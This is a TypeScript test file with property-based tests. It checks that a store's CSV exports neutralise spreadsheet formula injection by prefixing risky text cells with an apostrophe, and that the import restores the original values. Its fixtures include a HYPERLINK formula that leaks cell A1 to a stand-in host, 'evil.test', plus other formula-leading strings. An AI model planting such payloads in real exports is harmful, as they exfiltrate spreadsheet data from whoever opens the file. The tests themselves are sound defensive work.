import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { setupTestApp, type TestContext, type TestStore } from '../../test/helpers.js';
import { importCsv, propertyRuns, shopifyExport } from '../../test/support/csv.fixtures.js';

/**
 * Spreadsheet safety (docs/exports.md): every CSV export writes a text cell a spreadsheet would run as a
 * formula with a leading apostrophe, numbers as numbers, and the import drops that apostrophe again, so
 * strings that begin with `=`, `+`, `-`, `@`, a tab, a CR or an apostrophe survive export → import. The
 * property runs 12 times per resource (FUZZ_RUNS overrides, FUZZ_SEED replays a failure).
 */
const RUNS = propertyRuns(12);

let t: TestContext;
beforeAll(async () => {
  t = await setupTestApp();
});
afterAll(async () => t?.close());

const FABRIC = 'Fabric (product.metafields.custom.fabric)';
const HYPERLINK = '=HYPERLINK("http://evil.test/?x="&A1,"click")';

const exportOf = (store: TestStore, resource: string) => shopifyExport(t, store, resource);
const rowsOf = (body: string) => parse(body, { columns: true }) as Record<string, string>[];
const list = async (store: TestStore, path: string) =>
  (await t.call(store, 'GET', `${path}?limit=100`)).body.data as Record<string, unknown>[];

// What a spreadsheet runs, what the import would read as quoted, and Shopify's own quotes, then anything
// (the body ends in a letter: cells are trimmed on import, as they always were).
const start = fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", "'=", "''=", "'+1", "'0", "'(", "''", '=1+2', '-5', '+', '');
const body = fc.stringMatching(/^[A-Za-z0-9 ,"'=+@();-]{0,12}[A-Za-z]$/);
const hostile = fc.tuple(start, body).map(([head, tail]) => head + tail);
// Text the store keeps as sent (no trimming): no leading whitespace there
const kept = hostile.filter((text) => text === text.trimStart());
// a customFields key of a customer is a column: not one of Shopify's own (those start with a letter)
const key = kept.filter((text) => !/^[A-Za-z]/.test(text));

describe('formulas in CSV exports', () => {
  it('a customer named =HYPERLINK(…) is exported with a leading apostrophe, and imported back as it was', async () => {
    const [from, to] = [await t.newStore(), await t.newStore()];
    const created = await t.call(from, 'POST', '/customers', {
      userName: 'mallory',
      password: 'long-secret-1',
      firstName: HYPERLINK,
      lastName: '@SUM(1+1)',
      phoneNumber: '+16135550100',
      customFields: { '=key': '-cmd', Balance: -5 },
    });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    const csv = await exportOf(from, 'customers');
    const [row] = rowsOf(csv);
    expect(row).toMatchObject({
      'First Name': `'${HYPERLINK}`,
      'Last Name': "'@SUM(1+1)",
      Phone: "'+16135550100",
      "'=key": "'-cmd",
      // a number is written as one: never quoted
      Balance: '-5',
    });
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.test/?x=""&A1,""click"")"`);
    const { job, errors } = await importCsv(t, to, 'customers', csv);
    expect(errors).toEqual([]);
    expect(job).toMatchObject({ status: 'succeeded', created: 1 });
    const [customer] = await list(to, '/customers');
    expect(customer).toMatchObject({
      userName: 'mallory',
      firstName: HYPERLINK,
      lastName: '@SUM(1+1)',
      phoneNumber: '+16135550100',
      customFields: { '=key': '-cmd', Balance: '-5' },
    });
  });

  it('numbers of number columns stay numbers; text cells of products and orders are quoted', async () => {
    const store = await t.newStore();
    const product = await t.call(store, 'POST', '/products', {
      title: '-Sale-',
      vendor: '@acme',
      price: 12.5,
      totalStock: 3,
      weightGrams: 100,
      customFields: { 'Cost per item': -5, 'Fabric (product.metafields.custom.fabric)': '=1+1' },
    });
    expect(product.status, JSON.stringify(product.body)).toBe(201);
    const [row] = rowsOf(await exportOf(store, 'products'));
    expect(row).toMatchObject({
      Title: "'-Sale-",
      Vendor: "'@acme",
      Price: '12.5',
      'Inventory quantity': '3',
      'Weight value (grams)': '100',
      'Cost per item': '-5',
      'Fabric (product.metafields.custom.fabric)': "'=1+1",
    });
    const order = await t.call(store, 'POST', '/orders', {
      customOrderId: '=1001',
      subTotal: 25,
      totalAmount: 25,
      cartItems: [{ productId: product.body.data.id, title: '+Gift', quantity: 2, price: 12.5 }],
      customFields: { Note: '@here' },
    });
    expect(order.status, JSON.stringify(order.body)).toBe(201);
    const [line] = rowsOf(await exportOf(store, 'orders'));
    expect(line).toMatchObject({
      Total: '25',
      Name: "'=1001",
      'Lineitem name': "'+Gift",
      'Lineitem quantity': '2',
      'Lineitem price': '12.5',
      Note: "'@here",
    });
  });
});

describe('round trip of generated strings that begin like formulas', () => {
  it(`products: title, vendor, type, tags, description, customFields (${RUNS.numRuns} catalogs)`, { timeout: 600_000 }, async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.uniqueArray(
          fc.record({
            title: hostile,
            vendor: hostile,
            productType: hostile,
            tags: fc.uniqueArray(hostile, { maxLength: 3, selector: (tag) => tag.trim().toLowerCase() }),
            description: hostile,
            fabric: kept,
            cost: kept,
          }),
          { minLength: 1, maxLength: 3, selector: (generated) => generated.title },
        ),
        async (generated) => {
          const from = await t.newStore();
          for (const [i, { fabric, cost, tags, ...fields }] of generated.entries()) {
            const created = await t.call(from, 'POST', '/products', {
              ...fields,
              // tags are a comma-separated cell: a tag holds no comma
              tags: tags.map((tag) => tag.replaceAll(',', ' ')),
              handle: `p${i}`,
              customFields: { [FABRIC]: fabric, 'Cost per item': cost },
            });
            expect(created.status, JSON.stringify(created.body)).toBe(201);
          }
          const to = await t.newStore();
          const { job, errors } = await importCsv(t, to, 'products', await exportOf(from, 'products'));
          expect(errors).toEqual([]);
          expect(job).toMatchObject({ status: 'succeeded', created: generated.length });
          const shape = (product: Record<string, unknown>) => {
            const { title, vendor, productType, tags, description, handle } = product;
            // the keys set here (the import adds its own: Status, Published, Inventory tracker)
            const fields = product.customFields as Record<string, unknown>;
            const custom = [FABRIC, 'Cost per item'].map((name) => fields[name]);
            return { handle, title, vendor, productType, tags, description, custom };
          };
          const byHandle = (all: Record<string, unknown>[]) =>
            all.map(shape).sort((a, b) => String(a.handle).localeCompare(String(b.handle)));
          expect(byHandle(await list(to, '/products'))).toEqual(byHandle(await list(from, '/products')));
        },
      ),
      RUNS,
    );
  });

  it(`customers: names and customFields keys and values (${RUNS.numRuns} stores)`, { timeout: 600_000 }, async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.uniqueArray(fc.record({ firstName: kept, lastName: kept, key, value: kept }), {
          minLength: 1,
          maxLength: 3,
          selector: (generated) => generated.key.toLowerCase(),
        }),
        async (generated) => {
          const from = await t.newStore();
          for (const [i, { key, value, ...names }] of generated.entries()) {
            const created = await t.call(from, 'POST', '/customers', {
              userName: `c${i}`,
              password: 'long-secret-1',
              ...names,
              customFields: { [key]: value },
            });
            expect(created.status, JSON.stringify(created.body)).toBe(201);
          }
          const to = await t.newStore();
          const { job, errors } = await importCsv(t, to, 'customers', await exportOf(from, 'customers'));
          expect(errors).toEqual([]);
          expect(job).toMatchObject({ status: 'succeeded', created: generated.length });
          const shape = (all: Record<string, unknown>[]) =>
            all
              .map(({ userName, firstName, lastName, customFields }) => ({ userName, firstName, lastName, customFields }))
              .sort((a, b) => String(a.userName).localeCompare(String(b.userName)));
          expect(shape(await list(to, '/customers'))).toEqual(shape(await list(from, '/customers')));
        },
      ),
      RUNS,
    );
  });
});
